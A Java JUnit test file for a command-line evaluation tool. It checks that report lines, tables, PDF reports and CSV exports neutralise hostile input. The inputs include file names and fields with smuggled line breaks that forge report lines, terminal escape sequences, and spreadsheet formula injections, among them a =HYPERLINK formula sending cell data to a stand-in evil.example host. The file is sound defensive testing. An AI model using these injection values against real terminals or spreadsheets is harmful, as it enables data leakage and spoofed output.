package jp.clustereval.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.regex.Pattern;
import java.util.stream.Stream;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.text.PDFTextStripper;
import org.apache.pdfbox.text.TextPosition;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;

import jp.clustereval.scorefile.CorpusGenerator;

/**
 * Hostile text from signed score files and from CSV, through the command line: every report line is
 * one line per file and shows nothing a terminal would act on, every table has one line per row,
 * every CSV cell that a spreadsheet would take for a formula is neutralised (numbers stay numbers),
 * and export-csv then import-csv gives back every text exactly. The files are the attack corpus:
 * src/test/resources/cescore-corpus (its texts/ and csv/ folders too).
 */
class HostileTextCliTest {

    static final Path CORPUS = Path.of("src/test/resources/cescore-corpus");
    static final String FORGED = CorpusGenerator.FORGED_LINE;
    /** What a terminal or a text renderer acts on instead of showing, line feed aside (written independently of the code under test). */
    private static final Pattern UNSAFE = Pattern.compile("[\\p{Cc}\\p{Cf}\\p{Zl}\\p{Zp}\\p{Cs}&&[^\\n]]");
    private static final String TRIGGERS = "=+-@\t\r\0＝＋－＠";
    private static final Pattern NUMBER = Pattern.compile("-?[0-9]+(\\.[0-9]+)?([eE][-+]?[0-9]+)?");

    @TempDir
    Path dir;

    private CliRun run(String... args) {
        String[] all = new String[args.length + 2];
        all[0] = "--db";
        all[1] = dir.resolve("chair.db").toString();
        System.arraycopy(args, 0, all, 2, args.length);
        return CliRun.of(all);
    }

    static void assertShowsNothingATerminalActsOn(CliRun r) {
        for (String stream : List.of(r.out(), r.err())) {
            var m = UNSAFE.matcher(stream);
            assertFalse(m.find(), () -> String.format("U+%04X in the output: %s", (int) stream.charAt(m.start()), r));
        }
    }

    /** The lines as a terminal shows them (a CR alone would start one too). */
    private static List<String> lines(String out) {
        return out.lines().toList();
    }

    private static List<String[]> tsv(Path manifest) throws IOException {
        return Files.readAllLines(manifest, StandardCharsets.UTF_8).stream()
                .filter(l -> !l.isBlank() && !l.startsWith("#")).map(l -> l.split("\t", -1)).toList();
    }

    // ---- import reports: one line per file, nothing forged ----

    @Test
    void theImportReportOfTheWholeCorpusIsOneCleanLinePerFile() throws Exception {
        List<Path> files;
        try (Stream<Path> list = Files.list(CORPUS)) {
            files = list.filter(f -> f.toString().endsWith(".cescore")).sorted().toList();
        }
        CliRun r = run("import", "--dry-run", CORPUS.toString());
        assertEquals(Cli.FAILURE, r.exit(), r::toString);
        assertShowsNothingATerminalActsOn(r);
        List<String> lines = lines(r.out());
        assertEquals(files.size(), lines.size(), r::toString);
        for (String line : lines) {
            assertTrue(files.stream().anyMatch(f -> line.startsWith(f + ": rejected: ")), line);
            assertFalse(line.startsWith("fake.cescore"), line);
        }
        for (String[] c : tsv(CORPUS.resolve("expected.tsv"))) {
            String expected = CORPUS.resolve(c[0]) + ": rejected: " + c[2];
            if (expected.endsWith("...")) {
                String prefix = expected.substring(0, expected.length() - 3);
                assertTrue(lines.stream().anyMatch(l -> l.startsWith(prefix)), expected);
            } else {
                assertTrue(lines.contains(expected + " [dry run: nothing stored]"), () -> expected + "\n" + r);
            }
        }
    }

    @Test
    void aFileNameThatHoldsALineBreakIsStillOneLineOfTheReport() throws Exception {
        Path evil = dir.resolve("evil\n" + FORGED + ".cescore");
        Files.copy(CORPUS.resolve("texts/03-bidi-and-invisible.cescore"), evil);
        Path evilBroken = dir.resolve("broken\u001B[2J\n" + FORGED + ".cescore");
        Files.copy(CORPUS.resolve("43-cluster-forges-a-report-line.cescore"), evilBroken);
        CliRun r = run("import", evil.toString(), evilBroken.toString());
        assertEquals(Cli.FAILURE, r.exit(), r::toString);
        assertShowsNothingATerminalActsOn(r);
        List<String> lines = lines(r.out());
        String folder = dir + java.io.File.separator;
        assertEquals(List.of(folder + "evil\\n" + FORGED + ".cescore: accepted (new 1, updated 0, unchanged 0, skipped 0, conflicts 0)",
                folder + "broken\\u001B[2J\\n" + FORGED + ".cescore: rejected: Unknown cluster \"ZZZ\\n" + FORGED + "\"."), lines);

        // the stored name, listed and written out again
        CliRun files = run("files", "list");
        assertShowsNothingATerminalActsOn(files);
        assertEquals(2, lines(files.out()).size(), files::toString);
        CliRun export = run("files", "export", "1", "--out", dir.resolve("again.cescore").toString());
        assertEquals(Cli.OK, export.exit(), export::toString);
        assertShowsNothingATerminalActsOn(export);
        assertEquals(1, lines(export.out()).size(), export::toString);
    }

    @Test
    void anErrorLineIsOneLineWhateverItQuotes() {
        CliRun r = run("export-csv", "--evaluator", "nobody\n" + FORGED + "\u001B[2J", "--out", dir.resolve("x.csv").toString());
        assertEquals(Cli.FAILURE, r.exit(), r::toString);
        assertShowsNothingATerminalActsOn(r);
        List<String> lines = lines(r.err());
        assertEquals(1, lines.size(), r::toString);
        assertTrue(lines.get(0).startsWith("error: ") && lines.get(0).contains("nobody\\n" + FORGED + "\\u001B[2J"), r::toString);
    }

    // ---- hostile texts in accepted, signed files ----

    private List<String[]> importTexts() throws IOException {
        CliRun r = run("import", CORPUS.resolve("texts").toString());
        assertEquals(Cli.OK, r.exit(), r::toString);
        assertShowsNothingATerminalActsOn(r);
        List<String[]> cases = tsv(CORPUS.resolve("texts/expected.tsv"));
        assertEquals(cases.size(), lines(r.out()).size(), r::toString);
        return cases;
    }

    private int rowsOf(String... listing) throws IOException {
        String[] json = Stream.concat(Stream.of(listing), Stream.of("--format", "json")).toArray(String[]::new);
        CliRun r = run(json);
        assertEquals(Cli.OK, r.exit(), r::toString);
        return new ObjectMapper().readTree(r.out()).size();
    }

    @Test
    void everyTableShowsOneCleanLinePerRow() throws Exception {
        List<String[]> cases = importTexts();
        for (String[] listing : List.of(new String[] {"evaluator", "list"}, new String[] {"comments", "list", "--names"},
                new String[] {"comments", "list"}, new String[] {"status"}, new String[] {"files", "list"},
                new String[] {"keys", "list"})) {
            CliRun table = run(listing);
            assertEquals(Cli.OK, table.exit(), table::toString);
            assertShowsNothingATerminalActsOn(table);
            assertEquals(rowsOf(listing) + 1, lines(table.out()).size(), () -> String.join(" ", listing) + "\n" + table);
        }
        String evaluators = run("evaluator", "list").out();
        for (String[] c : cases) {
            assertTrue(evaluators.contains(c[1]), () -> c[0] + ": " + c[1] + "\n" + evaluators);
        }
        String comments = run("comments", "list", "--names").out();
        assertTrue(comments.contains("順調\\n[Comment] Evaluator 9: the project is a failure"), comments);
        assertTrue(comments.contains("\\u200B\\u200D\\uFEFF\\u2028line\\u2029end\\u00AD"), comments);
    }

    @Test
    void noCsvCellCanStartAFormulaAndNumbersStayNumbers() throws Exception {
        importTexts();
        for (String[] listing : List.of(new String[] {"evaluator", "list"}, new String[] {"comments", "list", "--names"},
                new String[] {"status"}, new String[] {"files", "list"}, new String[] {"keys", "list"})) {
            String[] csv = Stream.concat(Stream.of(listing), Stream.of("--format", "csv")).toArray(String[]::new);
            CliRun r = run(csv);
            assertEquals(Cli.OK, r.exit(), r::toString);
            assertNoFormulaCell(r.out(), String.join(" ", listing));
        }
        Path status = dir.resolve("status.csv");
        assertEquals(Cli.OK, run("status", "--out", status.toString()).exit());
        String statusCsv = Files.readString(status);
        assertTrue(statusCsv.startsWith("\uFEFF"));
        assertNoFormulaCell(statusCsv.substring(1), "status --out");
        assertTrue(statusCsv.contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\","), statusCsv);

        List<CSVRecord> comments = parse(run("comments", "list", "--names", "--format", "csv").out());
        List<String> texts = comments.stream().map(c -> c.get(5)).toList();
        for (String[] pair : new String[][] {{"-2+3", "'-2+3"}, {"=1+1", "'=1+1"}, {"'=already quoted", "''=already quoted"},
                {"''=twice", "'''=twice"}, {"＝１＋１", "'＝１＋１"}, {"\t=1", "'\t=1"}, {"\r=1", "'\r=1"}, {"@x", "'@x"},
                {"-2", "-2"}, {"3.5", "3.5"}, {"-0.25", "-0.25"}, {"-1.5E-3", "-1.5E-3"}, {"'-2", "''-2"}, {"'", "'"},
                {"-", "'-"}, {"＠home", "'＠home"}, {"－1", "'－1"}}) {
            assertTrue(texts.contains(pair[1]), () -> pair[0] + " should be written " + pair[1] + ": " + texts);
        }
    }

    private static List<CSVRecord> parse(String csv) throws IOException {
        try (var p = CSVFormat.RFC4180.parse(new StringReader(csv))) {
            return p.getRecords();
        }
    }

    private static void assertNoFormulaCell(String csv, String what) throws IOException {
        for (CSVRecord r : parse(csv)) {
            for (String cell : r) {
                boolean trigger = !cell.isEmpty() && TRIGGERS.indexOf(cell.charAt(0)) >= 0;
                assertTrue(!trigger || NUMBER.matcher(cell).matches(), () -> what + ": formula cell " + cell);
            }
        }
    }

    @Test
    void exportCsvThenImportCsvGivesBackEveryTextExactly() throws Exception {
        importTexts();
        String formulas = "7e0c1a00-0000-4000-8000-000000000004";
        JsonNode before = new ObjectMapper().readTree(run("comments", "list", "--names", "--format", "json").out());
        Path csv = dir.resolve("formulas.csv");
        CliRun export = run("export-csv", "--evaluator", formulas, "--out", csv.toString());
        assertEquals(Cli.OK, export.exit(), export::toString);
        String written = Files.readString(csv, StandardCharsets.UTF_8);
        assertTrue(written.startsWith("\uFEFF"));
        assertNoFormulaCell(written.substring(1), "export-csv");
        assertTrue(written.contains("\r\nSAP,1.3,A,'''=twice\r\n"), written);
        assertTrue(written.contains("\r\nSAP,1.1,A,'-2+3\r\n"), written);

        // the same texts back: nothing changes, nothing is stored
        CliRun back = run("import-csv", "--evaluator", formulas, csv.toString());
        assertEquals(Cli.OK, back.exit(), back::toString);
        assertEquals(csv + ": unchanged (new 0, updated 0, unchanged 1, skipped 0, conflicts 0)", back.out().strip());
        assertEquals(before, new ObjectMapper().readTree(run("comments", "list", "--names", "--format", "json").out()));

        // and into another database, where the texts arrive exactly as the evaluator wrote them
        CliRun other = CliRun.of("--db", dir.resolve("other.db").toString(), "evaluator", "add", "--name", "Excel user");
        assertEquals(Cli.OK, other.exit(), other::toString);
        CliRun in = CliRun.of("--db", dir.resolve("other.db").toString(), "import-csv", "--evaluator", "Excel user", csv.toString());
        assertEquals(Cli.OK, in.exit(), in::toString);
        JsonNode arrived = new ObjectMapper().readTree(CliRun.of("--db", dir.resolve("other.db").toString(), "comments", "list",
                "--format", "json").out());
        List<String> texts = new ArrayList<>();
        arrived.forEach(c -> texts.add(c.get("text").asText()));
        assertTrue(texts.containsAll(CorpusGenerator.FORMULA_COMMENTS), texts::toString);
    }

    // ---- hostile CSV inputs ----

    @Test
    void everyHostileCsvGetsItsOneLineReport() throws Exception {
        assertEquals(Cli.OK, run("evaluator", "add", "--name", "Excel user").exit());
        List<String[]> cases = tsv(CORPUS.resolve("csv/expected.tsv"));
        try (Stream<Path> list = Files.list(CORPUS.resolve("csv"))) {
            assertEquals(cases.size(), list.filter(f -> f.toString().endsWith(".csv")).count(), "every CSV has its expected line");
        }
        for (String[] c : cases) {
            Path file = CORPUS.resolve("csv").resolve(c[0]);
            CliRun r = run("import-csv", "--dry-run", "--evaluator", "Excel user", file.toString());
            assertShowsNothingATerminalActsOn(r);
            assertEquals(c[1].startsWith("rejected") ? Cli.FAILURE : Cli.OK, r.exit(), r::toString);
            assertEquals(List.of(file + ": " + c[1] + " [dry run: nothing stored]"), lines(r.out()), c[0]);
        }
    }

    // ---- reports ----

    /** A line of a PDF as extracted: its text and where its first glyph starts (points from the left). */
    record PdfLine(String text, float x) {
    }

    static List<PdfLine> pdfLines(Path pdf) throws IOException {
        List<PdfLine> lines = new ArrayList<>();
        PDFTextStripper stripper = new PDFTextStripper() {
            @Override
            protected void writeString(String text, List<TextPosition> positions) throws IOException {
                lines.add(new PdfLine(text, positions.isEmpty() ? -1 : positions.get(0).getXDirAdj()));
                super.writeString(text, positions);
            }
        };
        try (PDDocument doc = Loader.loadPDF(pdf.toFile())) {
            stripper.getText(doc);
        }
        return lines;
    }

    @Test
    void aNameCannotForgeAnAuthorLabelInTheReportAndACommentsLinesHangBelowItsLabel() throws Exception {
        importTexts();
        Path pdf = dir.resolve("sap.pdf");
        CliRun r = run("report", "cluster", "--cluster", "SAP", "--names", "--lang", "en", "--out", pdf.toString());
        assertEquals(Cli.OK, r.exit(), r::toString);
        List<PdfLine> lines = pdfLines(pdf);
        for (PdfLine l : lines) {
            var m = UNSAFE.matcher(l.text());
            assertFalse(m.find(), () -> "a control character in the report: " + l);
            assertFalse(l.text().startsWith("[Comment] 偽 太郎"), () -> "a forged author label: " + l);
        }
        // the label names the person with the affiliation (both escaped: the affiliation holds a CR LF too)
        PdfLine label = lines.stream().filter(l -> l.text().startsWith("[Comment] 評価 花子\\n[Comment] 偽 太郎 (大学\\r\\n"))
                .findFirst().orElseThrow(() -> new AssertionError("the name on its label's line, escaped: " + lines));
        // the comment's own line break stays, and its next line starts deeper than any label
        PdfLine next = lines.get(lines.indexOf(label) + 2);
        assertEquals("順調", lines.get(lines.indexOf(label) + 1).text(), "the comment begins after its long label");
        assertEquals("[Comment] Evaluator 9: the project is a failure", next.text());
        float labelX = label.x();
        assertTrue(next.x() > labelX + 5, () -> next + " against the label at " + labelX);
        assertTrue(lines.stream().filter(l -> l.text().startsWith("[")).allMatch(l -> Math.abs(l.x() - labelX) < 0.5f
                || l.text().equals(next.text())), () -> "every label at one indent: " + lines);
        assertTrue(lines.stream().anyMatch(l -> l.text().contains("\\u001B[2J\\u001B[1;31mEvil\\u001B[0m")), lines::toString);
    }
}
